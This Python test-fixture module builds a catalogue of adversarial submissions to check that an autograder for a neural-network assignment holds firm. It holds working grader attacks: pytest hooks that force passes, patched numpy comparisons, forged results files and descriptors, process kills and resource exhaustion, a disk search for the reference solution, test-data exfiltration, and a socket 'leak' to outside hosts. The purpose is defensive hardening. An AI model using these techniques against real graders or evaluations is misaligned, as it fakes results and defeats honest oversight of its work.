"""Adversarial submissions for a1_xor_backprop: each is the released stub (every function raises
NotImplementedError, so an honest grade is 0) plus an attack on the grader. Every one must score 0
and leave the batch complete; ``honest`` (the reference, in the same batch) must score 100.

The attacks cover every class known to beat in-process graders: files that configure pytest,
dying or hanging at import, resource exhaustion, forged results (files, descriptors, the call
socket), patching pytest or numpy (also transiently, from a trace hook, and by rewriting code
objects), calling the hidden suite's oracles, answers printed for a subprocess check, replies of the
wrong type, System V shared memory, and exfiltrating the tests' data into feedback. Since the
hidden tests run in a trusted process, most of them now find nothing to attack.

``build(folder, context)`` writes the catalogue as a folder of submissions; ``context`` carries what
a well-informed attacker would know (the gradebook path, a listening port, a marker for its
processes).
"""

from __future__ import annotations

import textwrap
import zipfile
from pathlib import Path

from ailit_core import assignments
from ailit_core.release.files import release_files

ASSIGNMENT = "a1_xor_backprop"
MODULE = "xor_net.py"


def stub_source() -> str:
    return release_files(assignments.get(ASSIGNMENT))[MODULE].decode("utf-8")


# A forced pass, the way cheats against pytest-based graders usually do it.
FORCE_PASS_HOOK = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""

# Finds a working xor_net.py anywhere it can look (sys.path, the grader's folders, the disk) and
# delegates to it. Run outside the sandbox it finds the reference (the test checks that), so a 0
# inside means the reference was unreachable.
FIND_REFERENCE = r'''
import os, sys, time, importlib.util

def _good(path):
    try:
        text = open(path, encoding="utf-8", errors="replace").read()
    except OSError:
        return False
    return "def compute_gradients" in text and "NotImplementedError" not in text

SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", "/var/lib", "/boot")

def find_reference(budget=2.5, depth=7):
    started = time.monotonic()
    roots = [p for p in sys.path if p] + ["/work", "/root", "/home", "/srv", "/opt", "/tmp", "/mnt", os.getcwd(), "/"]
    try:
        import ailit_core.paths as paths
        roots[:0] = [str(paths.solutions_dir()), str(paths.examples_dir()), str(paths.project_root())]
    except Exception:
        pass
    seen = set()
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() - started > budget:
                return None
            real = os.path.realpath(dirpath)
            if real in seen or real.startswith(SKIP) or real.count("/") > depth:
                dirnames[:] = []
                continue
            seen.add(real)
            dirnames[:] = [d for d in dirnames if d not in ("site-packages", "dist-packages", "__pycache__", ".git")]
            if "xor_net.py" in filenames and _good(os.path.join(dirpath, "xor_net.py")):
                return os.path.join(dirpath, "xor_net.py")
    return None
'''

DELEGATE = r'''
_found = find_reference()
if _found:
    _spec = importlib.util.spec_from_file_location("_reference_xor_net", _found)
    _ref = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_ref)
    sigmoid = _ref.sigmoid
    sigmoid_derivative = _ref.sigmoid_derivative
    NeuralNetwork = _ref.NeuralNetwork
'''


def attacks(context: dict) -> dict[str, dict[str, str]]:
    """student -> files (relative path -> text). The module is the stub with attack code added."""
    out = context["out"]
    port = context["port"]
    marker = context["marker"]
    stub = stub_source()

    def module(prefix: str = "", suffix: str = "") -> str:
        # The attack runs at import, right after the stub's `from __future__` line (which must stay first).
        head, sep, rest = stub.partition("from __future__ import annotations\n")
        if not sep:
            head, rest = "", stub
        return head + sep + textwrap.dedent(prefix) + "\n" + rest + "\n" + textwrap.dedent(suffix)

    forged = {"score": 100, "tests": [], "extra_data": {"ailit": {"student": "x", "status": "graded"}}}
    return {
        "conftest_injection": {MODULE: stub, "conftest.py": FORCE_PASS_HOOK},
        "pytest_ini": {MODULE: stub, "pytest.ini": "[pytest]\naddopts = -p no:ailit_core.grade.plugin -k nothing\n"},
        "sitecustomize": {MODULE: stub, "sitecustomize.py": "import builtins\nbuiltins.__import__ = None\n",
                          "numpy.py": "raise SystemExit(0)\n"},
        "exit_at_import": {MODULE: module("import os\nos._exit(0)\n")},
        "system_exit_at_import": {MODULE: module("raise SystemExit(0)\n")},
        "kill_self_at_import": {MODULE: module("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")},
        "segfault_at_import": {MODULE: module("import ctypes\nctypes.string_at(0)\n")},
        "infinite_loop_at_import": {MODULE: module("while True:\n    pass\n")},
        "sleep_at_import": {MODULE: module("import time\ntime.sleep(10 ** 6)\n")},
        "stubborn_loop": {MODULE: module(suffix="""
            import time
            def sigmoid(x):
                while True:  # swallows the grader's timeout exception
                    try:
                        time.sleep(0.05)
                    except BaseException:
                        pass
            """)},
        "memory_hog": {MODULE: module("""
            hoard = []
            while True:
                hoard.append(bytearray(50 * 1024 * 1024))
            """)},
        "output_flood": {MODULE: module("""
            import sys
            line = "flood " * 2000 + "\\n"
            while True:
                sys.stdout.write(line)
            """)},
        "orphans": {MODULE: module(f"""
            import os, subprocess, sys, time
            # a detached grandchild (double fork + new session) and a plain child, both long-lived
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{marker}-double"])
                os._exit(0)
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}-popen"],
                             start_new_session=True)
            time.sleep(0.5)
            """)},
        "forged_results": {MODULE: module(f"""
            import json, os
            forged = {forged!r}
            targets = ["results.json", "../results.json", "../../results.json", "/tmp/results.json",
                       "/autograder/results/results.json", {str(out)!r} + "/grades.csv",
                       {str(out)!r} + "/students/forged_results/results.json", {str(out)!r} + "/students/victim/results.json",
                       {str(out)!r} + "/FORGED.txt"]
            for target in targets:
                try:
                    os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
                    with open(target, "w") as fh:
                        json.dump(forged, fh)
                except OSError:
                    pass
            # and straight into every open descriptor, in case one is the results channel
            line = json.dumps({{"t": "report", "nodeid": "x", "when": "call", "outcome": "passed"}}).encode() + b"\\n"
            for fd in range(3, 1024):
                try:
                    os.write(fd, line)
                except OSError:
                    pass
            """)},
        "patch_pytest_reports": {MODULE: module("""
            import _pytest.reports, _pytest.runner
            _original = _pytest.reports.TestReport.from_item_and_call.__func__
            def _always_pass(cls, item, call):
                report = _original(cls, item, call)
                report.outcome = "passed"
                report.longrepr = None
                return report
            _pytest.reports.TestReport.from_item_and_call = classmethod(_always_pass)
            """)},
        "register_pass_plugin": {MODULE: module("""
            import gc, sys, pytest
            class _Pass:
                @pytest.hookimpl(hookwrapper=True)
                def pytest_runtest_makereport(self, item, call):
                    outcome = yield
                    report = outcome.get_result()
                    report.outcome = "passed"
                    report.longrepr = None
            def _configs():
                frame = sys._getframe()
                while frame is not None:  # the importing code's frames hold pytest's session
                    for value in list(frame.f_locals.values()):
                        if type(value).__name__ == "Session":
                            yield value.config
                        elif type(value).__name__ == "Config":
                            yield value
                    frame = frame.f_back
                for obj in gc.get_objects():
                    if type(obj).__name__ == "Config" and hasattr(obj, "pluginmanager"):
                        yield obj
            for config in _configs():
                if not config.pluginmanager.has_plugin("ailit-pass"):
                    config.pluginmanager.register(_Pass(), "ailit-pass")
            """)},
        "replace_tests": {MODULE: module("""
            import sys
            frame = sys._getframe()
            while frame is not None:  # pytest's session is in the importing code's frames
                for value in list(frame.f_locals.values()):
                    if type(value).__name__ == "Session":
                        for item in value.items:
                            item.runtest = lambda: None
                            item.obj = lambda *args, **kwargs: None
                frame = frame.f_back
            """)},
        "patch_oracles": {MODULE: module("""
            import sys
            import numpy as np
            np.allclose = lambda *a, **k: True
            np.array_equal = lambda *a, **k: True
            for name, mod in list(sys.modules.items()):
                if name.startswith("test_hidden"):
                    mod.oracle_sigmoid = lambda x: x
            """)},
        "find_reference": {MODULE: module(FIND_REFERENCE, suffix=DELEGATE)},
        "transient_trace_patch": {MODULE: module("""
            import sys, _pytest.reports
            _original = _pytest.reports.TestReport.from_item_and_call.__func__
            def _pass(cls, item, call):
                report = _original(cls, item, call)
                report.outcome, report.longrepr = "passed", None
                return report
            def _tracer(frame, event, arg):
                # installs the patch while a test runs, removes it before any check could look
                if event == "call" and frame.f_code.co_name.startswith("test_"):
                    _pytest.reports.TestReport.from_item_and_call = classmethod(_pass)
                elif event == "return" and frame.f_code.co_name == "pytest_runtest_logreport":
                    _pytest.reports.TestReport.from_item_and_call = classmethod(_original)
                return None
            sys.settrace(_tracer)
            sys.setprofile(_tracer)
            """)},
        "gc_results_writer": {MODULE: module("""
            import gc, json, os
            # look for the results writer (its fd and nonce) and end the run with a forged finish
            for obj in gc.get_objects():
                if hasattr(obj, "nonce") and hasattr(obj, "fd"):
                    for kind, fields in (("report", {"nodeid": "x", "when": "call", "outcome": "passed"}),
                                         ("finish", {"exitstatus": 0})):
                        line = json.dumps({"n": obj.nonce, "t": kind, **fields}) + "\\n"
                        os.write(obj.fd, line.encode())
            """)},
        "code_object_rewrite": {MODULE: module("""
            import numpy as np, numpy.testing
            def _yes(*args, **kwargs):
                return True
            for target in (np.allclose, np.array_equal, np.isclose):
                try:
                    target.__code__ = _yes.__code__
                except (AttributeError, TypeError, ValueError):
                    pass
            numpy.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__
            """)},
        "call_oracles": {MODULE: module(suffix="""
            import sys
            def _oracle(name):
                for mod_name, mod in list(sys.modules.items()):
                    if mod_name.startswith("test_hidden") and hasattr(mod, name):
                        return getattr(mod, name)
                raise NotImplementedError("no oracle here")
            def sigmoid(x):
                return _oracle("oracle_sigmoid")(x)
            """)},
        "print_answer": {MODULE: module("""
            import json
            print(json.dumps(sorted(["weights_input_hidden", "bias_hidden", "weights_hidden_output", "bias_output"])))
            """)},
        "lying_array": {MODULE: module(suffix="""
            import numpy as np, sys
            class _Liar(np.ndarray):
                # equal to anything, and reads the caller's expected values through its frames
                def __eq__(self, other):
                    return True
                def __array_ufunc__(self, *args, **kwargs):
                    return np.asarray(sys._getframe(1).f_locals.get("expected", 0.5))
            def sigmoid(x):
                return np.zeros_like(x).view(_Liar)
            def sigmoid_derivative(s):
                return np.zeros_like(s).view(_Liar)
            """)},
        "malformed_reply": {MODULE: module("""
            import os, socket, struct, json
            # a well-framed reply whose fields have the wrong types, on every socket it can find
            body = json.dumps({"v": {"$d": [["kind", "hello"], ["ok", "yes"], ["duration", "soon"]]}, "b": []}).encode()
            frame = struct.pack(">Q", len(body)) + body
            for fd in range(3, 256):
                try:
                    if socket.socket(fileno=os.dup(fd)).type == socket.SOCK_STREAM:
                        os.write(fd, frame)
                except OSError:
                    pass
            """)},
        "sysv_shared_memory": {MODULE: module("""
            import ctypes, ctypes.util
            libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
            IPC_CREAT, IPC_PRIVATE = 0o1000, 0
            for _ in range(4):  # segments that would outlive the run (and escape its memory limit)
                shmid = libc.shmget(IPC_PRIVATE, 64 * 1024 * 1024, IPC_CREAT | 0o600)
            """)},
        "exfiltrate_test_data": {MODULE: module(suffix="""
            import gc, sys
            def sigmoid(x):
                found = []
                for obj in gc.get_objects():  # the tests' locals, constants and oracles, if they were here
                    name = getattr(obj, "__name__", "")
                    if isinstance(name, str) and ("oracle" in name or name.startswith("test_")):
                        found.append(name)
                frame = sys._getframe()
                while frame is not None:
                    found += [k for k in frame.f_locals if k not in ("found", "frame", "obj", "name", "x")]
                    frame = frame.f_back
                raise ValueError("LEAK:" + ",".join(found))
            """)},
        "network": {MODULE: module(f"""
            import socket
            for host in ("127.0.0.1", "localhost", "10.0.0.1", "1.1.1.1"):
                try:
                    with socket.create_connection((host, {port}), timeout=1) as s:
                        s.sendall(b"leak")
                except OSError:
                    pass
            """)},
    }


def honest() -> dict[str, str]:
    """The reference solution, graded in the same batch as the attacks: it must keep 100."""
    return {MODULE: assignments.get(ASSIGNMENT).solution_path.read_text(encoding="utf-8")}


def write(folder: Path, context: dict) -> list[str]:
    """The catalogue as submissions in ``folder`` (one as a zip); returns the students."""
    folder.mkdir(parents=True, exist_ok=True)
    students = []
    for student, files in {**attacks(context), "honest": honest()}.items():
        if student == "conftest_injection":  # also exercise the zip path
            with zipfile.ZipFile(folder / f"{student}.zip", "w") as archive:
                for rel, text in files.items():
                    archive.writestr(f"{student}/{rel}", text)
        else:
            for rel, text in files.items():
                path = folder / student / rel
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text, encoding="utf-8")
        students.append(student)
    return students
